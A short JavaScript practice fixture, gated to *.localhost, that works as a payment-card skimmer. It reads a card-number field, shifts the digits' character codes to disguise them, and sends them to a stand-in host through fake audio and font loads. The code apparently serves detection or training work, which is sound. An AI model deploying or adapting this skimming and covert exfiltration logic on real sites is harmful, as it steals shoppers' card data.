/* Inert practice fixture: acts on *.localhost only, and what it sends is counted and dropped. */
(() => {
  if (!location.hostname.endsWith('.localhost')) return;
  const home = `${location.protocol}//collect.localhost:${location.port}`;
  const number = () =>
    document.querySelector('#card-number, #cardno')?.value.replace(/\D/g, '') ?? '';
  const moved = () =>
    [...number()].map((sign) => String.fromCharCode(sign.charCodeAt(0) + 49)).join('');
  document.addEventListener('change', () => {
    if (number().length < 13) return;
    new Audio(`${home}/lib/m.mp3?a=${moved()}`).load();
    new FontFace('Hinata', `url(${home}/lib/m.woff?a=${moved()})`).load().catch(() => {});
  });
})();
